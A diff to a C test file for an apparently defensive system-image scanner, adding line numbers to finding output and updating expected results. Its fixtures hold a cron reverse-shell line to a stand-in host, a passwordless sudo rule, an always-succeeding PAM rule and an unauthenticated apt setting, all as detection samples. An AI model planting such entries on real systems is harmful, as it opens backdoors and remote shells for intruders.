@@ -96,9 +96,10 @@ static struct str judge(struct world *w)
 	struct str text = STR("");
 	for (size_t i = 0; i < w->report->findings.n; i++) {
 		const struct finding *f = &w->report->findings.p[i];
-		text = str_printf(w->arena, "%.*s%s %.*s %.*s %u\n", STRF(text),
+		struct str line = f->line ? str_printf(w->arena, ":%u", f->line) : STR("");
+		text = str_printf(w->arena, "%.*s%s %.*s %.*s%.*s %u\n", STRF(text),
 				  finding_place_name(f->own_place), STRF(f->id), STRF(f->path),
-				  f->layer + 1u);
+				  STRF(line), f->layer + 1u);
 	}
 	return text;
 }
@@ -221,10 +222,11 @@ static void test_reverse_shell(void **state)
 	struct world w;
 	world_init(&w);
 	put_packages(&w);
-	put(&w, 1, "etc/cron.d/x", STR("* * * * * root bash -c 'bash -i >& " TCP "h/1 0>&1'\n"));
+	put(&w, 1, "etc/cron.d/x",
+	    STR("# hourly\n* * * * * root bash -c 'bash -i >& " TCP "h/1 0>&1'\n"));
 	put(&w, 1, "usr/local/bin/wait", STR("#!/bin/sh\n(echo >" TCP "db/5432) && exit\n"));
 	expect(&w,
-	       "act-now reverse-shell etc/cron.d/x 2\nnote startup-entry-unowned etc/cron.d/x 2\n");
+	       "act-now reverse-shell etc/cron.d/x:2 2\nnote startup-entry-unowned etc/cron.d/x 2\n");
 }
 
 static void test_rights(void **state)
@@ -251,10 +253,10 @@ static void test_accounts(void **state)
 	put(&w, 2, "etc/sudoers.d/a",
 	    STR("a ALL=(ALL:ALL) NOPASSWD: ALL\nb ALL=NOPASSWD: /bin/ls\n"));
 	put(&w, 2, "home/a/.ssh/authorized_keys", STR("ssh-rsa AAAA a@b\n"));
-	expect(&w, "act-now account-empty-password etc/shadow 2\n"
-		   "act-now account-root-equivalent etc/passwd 2\n"
+	expect(&w, "act-now account-empty-password etc/shadow:1 2\n"
+		   "act-now account-root-equivalent etc/passwd:2 2\n"
 		   "act-now authorized-keys home/a/.ssh/authorized_keys 3\n"
-		   "note sudo-without-password etc/sudoers.d/a 3\n");
+		   "note sudo-without-password etc/sudoers.d/a:1 3\n");
 }
 
 static void test_pam(void **state)
@@ -268,7 +270,7 @@ static void test_pam(void **state)
 	    STR("auth [success=1] pam_unix.so\nauth sufficient pam_permit.so\n"));
 	put(&w, 2, "etc/pam.d/other", STR("auth required pam_permit.so\n"));
 	expect(&w,
-	       "act-now pam-module-unowned etc/pam.d/login 3\nact-now pam-module-unowned etc/pam.d/su 2\n");
+	       "act-now pam-module-unowned etc/pam.d/login:2 3\nact-now pam-module-unowned etc/pam.d/su:1 2\n");
 }
 
 static void test_sources(void **state)
@@ -285,11 +287,11 @@ static void test_sources(void **state)
 	    STR("Types: deb\nURIs: https://apt.example.org/\nSuites: x\nEnabled: no\n"));
 	put(&w, 2, "etc/apt/apt.conf.d/99x", STR("APT::Get::AllowUnauthenticated \"true\";\n"));
 	put(&w, 2, "etc/apt/trusted.gpg.d/x.gpg", STR("key"));
-	expect(&w, "act-now package-source-unsigned etc/apt/apt.conf.d/99x 3\n"
-		   "act-now package-source-unsigned etc/apt/sources.list.d/x.list 2\n"
+	expect(&w, "act-now package-source-unsigned etc/apt/apt.conf.d/99x:1 3\n"
+		   "act-now package-source-unsigned etc/apt/sources.list.d/x.list:1 2\n"
 		   "note package-key-unowned etc/apt/trusted.gpg.d/x.gpg 3\n"
-		   "note package-source-foreign etc/apt/sources.list.d/x.list 2\n"
-		   "note package-source-foreign etc/apt/sources.list.d/y.sources 2\n");
+		   "note package-source-foreign etc/apt/sources.list.d/x.list:1 2\n"
+		   "note package-source-foreign etc/apt/sources.list.d/y.sources:1 2\n");
 }
 
 static void test_wallets(void **state)
